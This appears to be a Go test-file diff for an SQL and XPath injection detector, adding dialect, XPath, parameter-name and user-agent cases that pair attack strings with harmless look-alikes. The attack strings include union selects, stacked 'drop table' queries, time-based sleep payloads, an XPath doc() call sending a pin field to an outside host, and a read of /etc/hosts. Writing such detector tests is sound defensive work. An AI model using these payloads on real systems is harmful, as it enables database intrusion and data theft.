@@ -53,6 +53,9 @@ func TestSigns(t *testing.T) {
 	f(&rowBreakout, point.Text, `ann','a@m.example'),('eve','e@m.example')-- `, `ann', (eve)`)
 	f(&assignment, point.Text, `Oslo', role='root', active='1`, `Oslo', the town`)
 	f(&syntaxProbe, point.Text, `7(.,"),'.)(`, `f('a', "b")...`)
+	f(&numberGlue, point.Text, `k' 9.e(ascii 9.e(mid(9.e(select k from l)9.e,1)9.e)9.e)=7`, `see 4.e(ii) and 5.e(i), left 6.e(iv)`)
+	f(&castError, point.Text, `1,cast(version() as int)`, `1,cast(price as int)`)
+	f(&splitComment, point.Text, `k' or /*`, `k' /* or`)
 	f(&nodeTest, point.Text, `k' or count(/*)=2 or 'j'='k`, `//td[@id='k' or count(/*)=2]`)
 }
 
@@ -195,4 +198,121 @@ func TestFamilies(t *testing.T) {
 	f(`' && clerk like '%`, true)
 	f(`' || clerk == 'k`, false)
 	f(`'%' || clerk || '%'`, false)
+}
+
+// TestDialects holds what one database has and others have not to what must come of it.
+func TestDialects(t *testing.T) {
+	f := func(text string, attack bool) {
+		t.Helper()
+		if got := detector.Read(text, point.Text); got.Score() >= 8 != attack {
+			t.Errorf("%q scores %d: %+v", text, got.Score(), got.Marks[:got.N])
+		}
+	}
+	// Packages of Oracle, blocks, arguments by name.
+	f(`k';begin dbms_job.submit(what=>'x;',job=>:n);end;--`, true)
+	f(`7 and utl_tcp.open_connection('h.example',25)=1`, true)
+	f(`dbms_output.put_line('k')`, false)
+	f(`array("or" => "1", "b" => array("c" => 1))`, false)
+	f(`items.map((k) => k.id) or items.filter(k => k > 1)`, false)
+	f(`k'; do 'begin perform 1; end'--`, true)
+	f(`k'; do 'what you like'`, false)
+	f(`k'; alter system set k='l'--`, true)
+	// Casts, and what they tell.
+	f(`k' or true=(1)::bool--`, true)
+	f(`k' or '1'::int::bool--`, true)
+	f(`1,cast(current_user as integer)`, true)
+	f(`1,convert(int,db_name())`, true)
+	f(`select id::text, name::varchar(20) from clients where open = true`, false)
+	f(`Foo::int and Bar::text`, false)
+	// Operators and constants that are words or letters.
+	f(`k' or b'1'-- -`, true)
+	f(`rock 'n' roll or r'b'`, false)
+	f(`k' or 4 member of('[4,5]')#`, true)
+	f(`the club's a member of ('the league')`, false)
+	f(`k' or 'a' similar to 'a'--`, true)
+	f(`k' or 'a' ~ 'a'--`, true)
+	f(`k' or 1 is distinct from 2--`, true)
+	f(`k' or '{}' is json--`, true)
+	f(`k' or (1,1) overlaps (1,2)--`, true)
+	f(`k' or xmlexists('//k' passing by ref '<k/>')--`, true)
+	f(`k' or match(k) against('l')#`, true)
+	f(`k' or date '2020-01-01' < now()--`, true)
+	f(`k' or position('k' in 'k')=1--`, true)
+	f(`date '2020-01-01' or time '10:00'`, false)
+	f(`root'or(@:=1)or'`, true)
+	f(`d'or (@: k)`, false)
+	// The rest of an ORDER BY, and of a row.
+	f(`made collate nocase limit (select length(hex(randomblob(9999))))`, true)
+	f(`speed limit (select count, size)`, false)
+	f(`id asc limit 1 procedure analyse(1)`, true)
+	f(`price asc limit 10 offset 20`, false)
+	f(`name nulls first, (select 1 from pg_sleep(3))`, true)
+	f(`k', now(), 1)--`, true)
+	f(`Smith', 42) -- see page 7`, false)
+	// Two parameters share a statement.
+	f(`-1 union /*`, true)
+	f(`*/ select clerk,pin from clerks`, true)
+	f(`*/select/*`, true)
+	f(`k' or /*`, true)
+	f(`*/5 * * * *`, false)
+	f(`*/ the end`, false)
+	f(`let's or /* not`, false)
+	f(`-1 union select raw k from system:keyspaces k --`, true)
+	f(`<button _="on click call load() then put it into #list">`, false)
+}
+
+// TestPaths holds paths of XPath that leave a predicate to what must come of them.
+func TestPaths(t *testing.T) {
+	f := func(text string, attack bool) {
+		t.Helper()
+		if got := detector.Read(text, point.Text); got.Score() >= 8 != attack {
+			t.Errorf("%q scores %d: %+v", text, got.Score(), got.Marks[:got.N])
+		}
+	}
+	f(`k')] | //* | //*[('`, true)
+	f(`']/ancestor::*/self::node()[string()='`, true)
+	f(`k' or //clerk[last()=1] or 'a'='b`, true)
+	f(`k' or self::node()='`, true)
+	f(`k' or doc(concat('http://h.example/',/*[1]/pin))//k or '`, true)
+	f(`k' and unparsed-text('/etc/hosts') and '1`, true)
+	f(`k' and codepoints(string-to-codepoints((//pin)[1]))=97 and ''='`, true)
+	f(`k' and not(//clerk[@boss='k'][1]/@pin mod 2) and '1`, true)
+	f(`//td[@id='k']/parent::*`, false)
+	f(`a['b'] | c['d']`, false)
+	f(`see 'chapter 1'] | //next`, false)
+	f(`boost::self::node='x'`, false)
+	f(`'clerks' and collection('k')`, false)
+	f(`it's in the doc("readme") file`, false)
+}
+
+// TestNames reads names of parameters and of clients, which no query holds in quotes.
+func TestNames(t *testing.T) {
+	f := func(kind point.Kind, text string, attack bool) {
+		t.Helper()
+		if got := detector.Read(text, kind); got.Score() >= 8 != attack {
+			t.Errorf("%q scores %d: %+v", text, got.Score(), got.Marks[:got.N])
+		}
+	}
+	f(point.Key, `filter[k') or 1`, true) // an equals sign cut it off
+	f(point.Key, `k[0;update clerks set pin`, true)
+	f(point.Key, `k[0;drop table l -- ]`, true)
+	f(point.Key, `fields[(select pin from clerks limit 1)]`, true)
+	f(point.JSONKey, `k') or 1=1--`, true)
+	f(point.Key, `answers[1; 2]`, false)
+	f(point.Key, `size[S (36-38) or M]`, false)
+	f(point.Key, `attributes[select size]`, false)
+	f(point.Key, `opt[it's ok; update settings]`, false)
+	f(point.UserAgent, `41 and benchmark(5000000,md5(7))`, true)
+	f(point.UserAgent, `-1 union select 1,2,3`, true)
+	f(point.UserAgent, `if(now()=sysdate(),sleep(9),0)`, true)
+	f(point.UserAgent, `3proxy/0.8 (Linux)`, false)
+	f(point.UserAgent, `2345Explorer 10 (Windows NT 6.1)`, false)
+	f(point.UserAgent, `Opera 9 (Windows; U; en) or newer`, false)
+	f(point.UserAgent, `1.0 (build 5; arm64) update available`, false)
+}
+
+// TestWorstCasesEnd feeds inputs that could make a scan quadratic.
+func TestWorstCasesEnd(*testing.T) {
+	detector.ReadRepeated(point.Text, "1.e(", "' or /*", "*/", "'] | //a", "' or doc('", "1::int", "'a' is distinct from ", " limit (select ")
+	detector.ReadRepeated(point.Key, "a[", "a[1;")
 }
